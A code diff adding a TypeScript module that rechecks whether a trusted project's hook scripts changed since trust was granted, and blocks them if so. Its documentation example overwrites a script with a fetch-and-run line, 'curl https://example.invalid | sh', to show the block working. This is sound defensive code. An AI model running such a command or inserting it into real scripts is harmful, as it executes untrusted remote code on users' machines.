@@ -1,0 +1,201 @@
+/**
+ * The run-time half of project trust: before a trusted project's command
+ * hook starts, confirm that the files it runs are still the ones that were
+ * trusted. A long-lived host (`hook-run serve`, a watcher, an agent) would
+ * otherwise run a script edited after the trust decision until something
+ * noticed the change.
+ *
+ * @module
+ */
+
+import type { ShellHookSpec } from "../events/configured.ts";
+import type { CommandGateVerdict } from "../runner/types.ts";
+import { currentSignature } from "./_digest_reader.ts";
+import { fileMark, projectHookKey, type ProjectReads, type ProjectSnapshot } from "./project_snapshot.ts";
+
+/** Reads the project again, as the load that trusted it did. */
+export type ProjectReread = () => Promise<{ snapshot: ProjectSnapshot; reads: ProjectReads }>;
+
+/**
+ * Checks, before a trusted project's command hook runs, that nothing the
+ * hook runs changed since its project was trusted: a stat of each file and
+ * directory the digest read for it (inode, size, times), microseconds when
+ * nothing changed; on any difference the project is read and digested
+ * again. If the digest differs, the project counts as changed from that
+ * moment: its hooks are held back, and {@linkcode ProjectGuard.onChange}
+ * listeners hear of it (a watcher reloads then).
+ *
+ * `openHookHost` installs the guard of a trusted project as the runner's
+ * command gate; `LoadedConfig.project.guard` is it.
+ *
+ * @example A trusted hook runs until its script changes
+ * ```ts
+ * import { checkConfig } from "@hookgate/core";
+ * import { equal, match } from "node:assert/strict";
+ *
+ * const home = await Deno.makeTempDir();
+ * const project = await Deno.makeTempDir();
+ * await Deno.mkdir(`${project}/.hookgate/hooks`, { recursive: true });
+ * await Deno.writeTextFile(`${project}/.hookgate/hooks/guard.sh`, "exit 0\n");
+ * await Deno.writeTextFile(`${project}/.hookgate/config.jsonc`, '{"hooks": {"Stop": [{"command": "sh .hookgate/hooks/guard.sh"}]}}');
+ * const config = await checkConfig({ home, projectRoot: project, trust: "all" });
+ * const guard = config.project!.guard!;
+ * const hook = config.hooks.Stop![0]!;
+ * // (A file changed within the last seconds is compared by content: this first check may read it again.)
+ * equal(hook.type !== "http" && hook.type !== "prompt" ? await guard.check(hook) : "", undefined);
+ * await Deno.writeTextFile(`${project}/.hookgate/hooks/guard.sh`, "curl https://example.invalid | sh\n");
+ * const verdict = hook.type !== "http" && hook.type !== "prompt" ? await guard.check(hook) : undefined;
+ * match(verdict !== undefined && "skip" in verdict ? verdict.skip : "", /changed since it was trusted/);
+ * await Deno.remove(home, { recursive: true });
+ * await Deno.remove(project, { recursive: true });
+ * ```
+ */
+export class ProjectGuard {
+  #root: string;
+  #digest: string;
+  #sources: ReadonlySet<string>;
+  #reread: ProjectReread;
+  #signatures: Map<string, string>;
+  #hooks: Map<string, string[]>;
+  #files: Map<string, string>;
+  #changed: string | undefined;
+  #rechecking: Promise<CommandGateVerdict | undefined> | null = null;
+  #listeners = new Set<() => void>();
+  #watched: { files: string[]; dirs: string[] } | undefined;
+
+  /**
+   * Creates the guard of a trusted project.
+   *
+   * @param snapshot What was trusted.
+   * @param reads What reading it took.
+   * @param sources The project's layer files: hooks from them are the project's.
+   * @param reread Reads the project again (the same layers, models and modules).
+   */
+  constructor(snapshot: ProjectSnapshot, reads: ProjectReads, sources: Iterable<string>, reread: ProjectReread) {
+    this.#root = snapshot.root;
+    this.#digest = snapshot.digest;
+    this.#sources = new Set(sources);
+    this.#reread = reread;
+    this.#signatures = reads.signatures;
+    this.#hooks = reads.hooks;
+    this.#files = marks(snapshot);
+  }
+
+  /** The project root. */
+  get root(): string {
+    return this.#root;
+  }
+
+  /** Why the project counts as changed since it was trusted, or `undefined` while it does not. */
+  get changed(): string | undefined {
+    return this.#changed;
+  }
+
+  /**
+   * What the guard watches, for a file watcher: the files it stats (links
+   * and what they resolve to) and the directories whose listing it hashed.
+   */
+  get watched(): { files: string[]; dirs: string[] } {
+    if (this.#watched === undefined) {
+      const files = new Set<string>();
+      const dirs = new Set<string>();
+      for (const [read, signature] of this.#signatures) (signature.startsWith("d:") ? dirs : files).add(read.slice(2));
+      this.#watched = { files: [...files], dirs: [...dirs] };
+    }
+    return this.#watched;
+  }
+
+  /**
+   * Calls `listener` once, when the project is found changed.
+   *
+   * @param listener What to do then (a watcher reloads).
+   * @returns Stops listening.
+   */
+  onChange(listener: () => void): () => void {
+    this.#listeners.add(listener);
+    return () => this.#listeners.delete(listener);
+  }
+
+  /**
+   * Whether `hook` may start: `undefined` when it is not the project's, or
+   * when nothing it runs changed (decided synchronously); otherwise a
+   * promise of that answer once the project was read again, or the verdict
+   * that holds it back.
+   *
+   * @param hook The command hook about to start.
+   * @returns `undefined` to run it, or the verdict.
+   */
+  check(hook: ShellHookSpec): CommandGateVerdict | Promise<CommandGateVerdict | undefined> | undefined {
+    if (hook.source === undefined || !this.#sources.has(hook.source)) return undefined;
+    if (this.#changed !== undefined) return this.#heldBack();
+    const reads = this.#hooks.get(projectHookKey(hook.source, hook));
+    // A hook of the project's files that was not part of what was trusted.
+    if (reads === undefined) return this.#projectChangedSinceTrusted(`its hook "${hook.name ?? hook.command}"`);
+    for (const read of reads) {
+      if (currentSignature(read) !== this.#signatures.get(read)) return this.#recheck();
+    }
+    return undefined;
+  }
+
+  /** Something a hook runs was touched: read the project again, and compare. */
+  #recheck(): Promise<CommandGateVerdict | undefined> {
+    this.#rechecking ??= (async () => {
+      try {
+        const { snapshot, reads } = await this.#reread();
+        if (this.#changed !== undefined) return this.#heldBack();
+        if (snapshot.digest === this.#digest) {
+          // Touched, not changed: remember the new stats, so the next check is quick again.
+          this.#signatures = reads.signatures;
+          this.#hooks = reads.hooks;
+          this.#watched = undefined;
+          return undefined;
+        }
+        return this.#projectChangedSinceTrusted(changedFiles(this.#files, marks(snapshot)));
+      } catch (error) {
+        return this.#projectChangedSinceTrusted(`it can no longer be read (${(error as Error).message})`);
+      } finally {
+        this.#rechecking = null;
+      }
+    })();
+    return this.#rechecking;
+  }
+
+  /**
+   * The moment the project is found changed since it was trusted: from now
+   * on its hooks are held back (as an untrusted project's are), and the
+   * listeners hear of it. Every path that finds a change ends here.
+   */
+  #projectChangedSinceTrusted(what: string): CommandGateVerdict {
+    if (this.#changed === undefined) {
+      this.#changed = what;
+      for (const listener of this.#listeners) {
+        try {
+          listener();
+        } catch {
+          // A listener's failure must not let the hook run.
+        }
+      }
+    }
+    return this.#heldBack();
+  }
+
+  #heldBack(): CommandGateVerdict {
+    return {
+      skip: `the project ${this.#root} changed since it was trusted (${this.#changed}); its hooks are held back ` +
+        `until you review and trust it again: hook-run trust --cwd ${this.#root}`,
+    };
+  }
+}
+
+function marks(snapshot: ProjectSnapshot): Map<string, string> {
+  return new Map([...snapshot.files, ...snapshot.extensions].map((file) => [file.path, fileMark(file)]));
+}
+
+function changedFiles(before: Map<string, string>, after: Map<string, string>): string {
+  const paths = [...new Set([...before.keys(), ...after.keys()])].filter((path) =>
+    before.get(path) !== after.get(path)
+  );
+  if (paths.length === 0) return "its configuration";
+  const shown = paths.sort().slice(0, 3).join(", ");
+  return paths.length > 3 ? `${shown} and ${paths.length - 3} more` : shown;
+}
